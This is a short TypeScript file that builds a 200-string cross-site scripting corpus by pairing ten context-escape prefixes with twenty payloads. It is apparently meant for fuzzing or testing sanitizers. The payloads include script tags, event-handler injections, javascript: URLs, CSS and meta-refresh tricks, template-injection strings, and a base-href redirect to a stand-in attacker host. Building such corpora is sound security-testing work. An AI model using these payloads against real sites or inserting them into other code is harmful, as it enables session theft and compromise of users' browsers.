/** Two hundred texts that run where text is taken for markup, for an attribute, for an address, for a style, for a script or
 *  for a template: every way out of a place, with every thing to do once out. */
const waysOut = [
  "",
  '">',
  "'>",
  "</title>",
  "</style>",
  "</textarea></select>",
  "-->",
  "]]>",
  "`;",
  "\\u003c/script\\u003e",
];
const deeds = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  "<svg><animate onbegin=alert(3) attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.alert(4)</script>'>",
  "<a href=javascript:alert(5) autofocus onfocus=alert(6)>x</a>",
  "<a href='&#106;avascript:alert(7)'>x</a>",
  '[x](javascript:alert(8)) ![x](x" onerror="alert(9))',
  "<details open ontoggle=alert(10)>",
  "<input autofocus onfocus=alert(11)>",
  "<video><source onerror=alert(12)></video>",
  "<body onload=alert(13)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
  "<style>@import 'javascript:alert(15)';*{background:url(javascript:alert(15))}</style>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(16)'>",
  "<base href=//evil.example/><script src=x></script>",
  "<form action=javascript:alert(17)><button autofocus>x</button></form>",
  "<object data=data:text/html,<script>alert(18)</script>></object>",
  "{{constructor.constructor('alert(19)')()}}",
  "<%= alert(20) %>",
  "' onmouseover='alert(21)' style='position:fixed;inset:0",
];

export const corpus: readonly string[] = waysOut.flatMap((out) => deeds.map((deed) => out + deed));
